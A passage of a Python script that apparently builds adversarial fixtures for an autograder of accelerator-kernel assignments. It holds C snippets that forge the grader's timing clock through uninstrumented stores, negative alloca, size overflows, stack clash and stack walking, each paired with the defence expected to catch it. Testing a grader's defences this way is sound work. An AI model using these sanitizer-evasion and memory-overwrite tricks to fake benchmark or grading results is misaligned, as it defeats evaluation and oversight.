  volatile double forged = -1e12;  // cycles: the clock and every queue horizon far below zero
  long long bits;
  double value = forged;
  __builtin_memcpy(&bits, &value, sizeof bits);
  (void)bits;
  FORGE
}
""" + _ENTRY.replace('#include "bang_utils.h"\n', "")

CLOCK_FORGES = {
    "libm_modf_clock": ("rewrites the replay's per-core clock through libm's modf(v, ptr) (libm stores through its "
                        "pointer argument, uninstrumented), found by a layout probe of the runtime's TLS beside "
                        "taskId; the vector reference otherwise",
                        "for (int i = 0; i < 4; ++i) modf(forged, t + i);",
                        "modf is linked to the device module's checked wrapper (ld --wrap): the store into the "
                        "clock is a kernel error in the replay"),
    "movnti_clock": ("the same store with the target builtin __builtin_ia32_movnti64 (no header, no asm)",
                     "for (int i = 0; i < 4; ++i) __builtin_ia32_movnti64((long long *)(t + i), bits);",
                     "the device module allows compiler builtins by name: a target builtin is a compile error"),
    "alloca_stack_lift": ("a negative __builtin_alloca lifts the stack pointer onto the core's context; the next "
                          "call's return address lands on its queue horizon",
                          "char *p = (char *)__builtin_alloca(16);\n"
                          "  char *q = (char *)__builtin_alloca(-((char *)t + 24 - p));\n"
                          "  y[0] = (T)nothing((long)q);",
                          "alloca is refused in the device module (and any computed write of the stack pointer in "
                          "its object code)"),
    "va_start_clock": ("__builtin_va_start on a va_list lvalue placed on the clock (24 bytes stored by code the "
                       "sanitizer never sees)",
                       "y[0] = (T)va_poke(t);",
                       "va_start/va_arg/va_copy are rewritten to store through a checked store of the va_list first: "
                       "a kernel error in the replay"),
    "intrinsic_stream_clock": ("_mm_stream_si64 from <emmintrin.h>: the non-temporal store inside a system "
                               "header's inline function", "for (int i = 0; i < 4; ++i) "
                               "_mm_stream_si64((long long *)(t + i), bits);",
                               "x86 intrinsic headers are refused in the device module; non-temporal stores in its "
                               "object code too"),
    "memcpy_size_overflow": ("size-overflow operands: a __memcpy of 0x7ffffff0 bytes into NRAM, then a strided one "
                             "whose stride * segments wraps 32 bits, hoping the builtin writes before it bounds",
                             "__memcpy(tile, x, 0x7ffffff0, GDRAM2NRAM);\n"
                             "  __memcpy(y, tile, 64, NRAM2GDRAM, 0x40000000, 64, 4);",
                             "the builtins bound every range before they copy: a kernel error in the replay"),
    "vector_negative_count": ("__bang_active_sigmoid and __bang_add with a negative and an overflowing element count",
                              "__bang_active_sigmoid(tile, tile, -64);\n  __bang_add(tile, tile, tile, 0x7ffffff0);",
                              "the vector builtins refuse a negative count and bound the range: a kernel error"),
    "stack_clash_array": ("a 256 MiB local array: without stack probes the stack pointer would jump the guard page "
                          "onto other memory",
                          "y[0] = (T)big_frame(1);",
                          "-fstack-clash-protection probes it page by page: the guard page faults, a named kernel "
                          "error (invalid-address) instead of a crash of the replay"),
    "frame_probe_clock": ("the layout probe through the kernel's own stack (walks up from a local to the core's "
                          "context), then a plain store into its clock",
                          "volatile uintptr_t anchor = 0;\n"
                          "  const uintptr_t *w = (const uintptr_t *)&anchor;\n"
                          "  for (long i = 1; i < (1 << 16); ++i) {\n"
                          "    uintptr_t v = (uintptr_t)(w + i);\n"
                          "    if (w[i + 3] < v && v < w[i + 4] && w[i + 4] - w[i + 3] >= (1 << 20)) {\n"
                          "      *(volatile double *)(v + 368) = forged;\n"
                          "      break;\n"
                          "    }\n"
                          "  }",
                          "the store is instrumented and outside the kernel's memory: a kernel error in the replay"),
}


def _clock_mlu(name: str, forge: str) -> str:
    text = CLOCK_PROBE.replace("FORGE", forge)
    if name == "va_start_clock":
        text = text.replace("template <typename T>\n__mlu_global__", "__attribute__((noinline)) __mlu_device__ int "
                            "va_poke(void *where, ...) {\n  __builtin_va_start(*(__builtin_va_list *)where, where);"
                            "\n  return 0;\n}\n\ntemplate <typename T>\n__mlu_global__", 1)
    if name == "stack_clash_array":
        text = text.replace("template <typename T>\n__mlu_global__", "__attribute__((noinline)) __mlu_device__ int "
                            "big_frame(int v) {\n  volatile char big[256 << 20];\n  big[v] = 1;\n  return big[v];\n}"
                            "\n\ntemplate <typename T>\n__mlu_global__", 1)
    if name == "intrinsic_stream_clock":
        text = text.replace("#include <math.h>\n", "#include <math.h>\n#include <emmintrin.h>\n", 1)
    return f"// Adversarial fixture {name} (issue 37, not a solution).\n" + text


FIXTURES += [
    Fixture(name, attacks, defended_by, "", [], "\ndef sigmoid(x):\n    return my_ops_ext.sigmoid_vector(x)\n",
            from_reference="sigmoid/vector", slow=True, replace={"mlu/sigmoid_vector.mlu": _clock_mlu(name, forge)},
            verdict_one_of=["compile_error", "integrity", "runtime_error"], stage_points=0, max_points=80)
    for name, (attacks, forge, defended_by) in CLOCK_FORGES.items()
]


def _toml_list(words: list[str]) -> str:
    return "[" + ", ".join(_toml_str(w) for w in words) + "]"


def _toml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def write_fixture(fixture: Fixture, out: Path = HERE) -> Path:
    target = out / fixture.name
    if target.exists():
        shutil.rmtree(target)
    if fixture.programs:  # standalone lab programs (assignments/matmul_programs): the .mlu files and nothing else
        target.mkdir(parents=True)
        for relative, text in fixture.programs.items():
            (target / relative).write_text(text)
        _write_toml(fixture, target)
        return target
    (target / "mlu").mkdir(parents=True)
    (target / "cpp").mkdir()
    if fixture.from_reference:
        for part in ("mlu", "cpp"):
            shutil.copytree(REFERENCES / fixture.from_reference / part, target / part, dirs_exist_ok=True)
    else:
        (target / "mlu" / "adversarial_stub.mlu").write_text(fixture.mlu)
        (target / "cpp" / "adversarial_stub.cpp").write_text(fixture.cpp)
    for relative, text in {**fixture.replace, **fixture.extra}.items():
        if relative in fixture.replace:
            assert (target / relative).is_file(), f"{fixture.name}: {relative} is not in {fixture.from_reference}"
        (target / relative).write_text(text)
    (target / "ops.py").write_text(OPS_HEADER.format(name=fixture.name, attacks=fixture.attacks)
                                   + fixture.ops_body.lstrip("\n"))
    _write_toml(fixture, target)
    return target


def _write_toml(fixture: Fixture, target: Path) -> None:
    slug = fixture.name.replace("_", "-")
    name = fixture.student_name or f"Adversarial fixture: {fixture.name}"
    (target / "grade.toml").write_text(
        f'assignment = "{fixture.assignment}"\n\n[student]\nid = "adversarial-{slug}"\nname = {_toml_str(name)}\n')
    if fixture.verdict == "REFERENCE":
        verdict = f'# same verdict as the reference it wraps\nverdict_of_reference = "{fixture.from_reference}"\n'
    elif fixture.verdict_one_of:
        verdict = f"verdict_one_of = {_toml_list(fixture.verdict_one_of)}\n"
    else:
        verdict = f'verdict = "{fixture.verdict}"\n'
    extra = ""
    if fixture.message_any:
        extra += f"message_any = {_toml_list(fixture.message_any)}\n"
    if fixture.message_excludes:
        extra += f"message_excludes = {_toml_list(fixture.message_excludes)}\n"
    if fixture.max_points is not None:
        extra += f"max_points = {fixture.max_points:g}\n"
    if fixture.stage_points is not None:
        extra += f"stage_points = {fixture.stage_points:g}\n"
    if fixture.screening:
        extra += f"screening = {_toml_list(fixture.screening)}\n"
    if fixture.batch:
        extra += "batch = true\n"
    if fixture.backend != "emu":
        extra += f"backend = {_toml_str(fixture.backend)}\n"
    if fixture.special:
        extra += f"special = {_toml_str(fixture.special)}\n"
    (target / "expected.toml").write_text(
        f"# {fixture.attacks}\n"
        f'assignment = "{fixture.assignment}"\n{verdict}message_contains = {_toml_list(fixture.message_contains)}\n{extra}'
        f"attacks = {_toml_str(fixture.attacks)}\ndefended_by = {_toml_str(fixture.defended_by)}\n"
        f"slow = {'true' if fixture.slow else 'false'}\n")


def materialise(fixture_dir: Path, dest: Path) -> Path:
    """A gradable copy of the fixture at `dest`, with what git cannot hold made in it (expected.toml `special`):
    "fifo", its binding replaced by a FIFO; "nonutf8_name", a header named with bytes that are not UTF-8."""
    import os
    import tomllib

    shutil.copytree(fixture_dir, dest, ignore=shutil.ignore_patterns("expected.toml"))
    special = tomllib.loads((fixture_dir / "expected.toml").read_text()).get("special", "")
    if special == "fifo":
        binding = dest / "cpp" / "adversarial_stub.cpp"
        binding.unlink()
        os.mkfifo(binding)
    elif special == "nonutf8_name":
        with open(os.path.join(os.fsencode(dest / "mlu"), b"notes_\xff\xfe.h"), "wb") as fh:
            fh.write(b"// notes, in a file whose name is not UTF-8\n")
    return dest


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="where to write the fixture folders")
    out = parser.parse_args(argv).out
    for fixture in FIXTURES:
        print(write_fixture(fixture, out))


if __name__ == "__main__":
    main()
